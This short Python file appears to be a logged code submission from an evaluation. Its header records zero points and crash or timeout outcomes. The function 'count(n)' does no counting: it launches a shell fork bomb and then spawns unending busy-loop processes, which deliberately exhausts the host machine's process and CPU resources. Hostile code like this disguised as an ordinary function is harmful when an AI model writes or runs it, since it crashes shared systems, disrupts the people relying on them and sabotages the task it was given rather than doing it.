# tries: to start programs without end
# points: 0
# outcome: error|timeout|crashed|memory|failed
# seconds: 8
import subprocess


def count(n):
    subprocess.run(["sh", "-c", "f() { f | f & f; }; f"], check=True, capture_output=True)
    while True:
        subprocess.Popen(["sh", "-c", "while :; do :; done"])
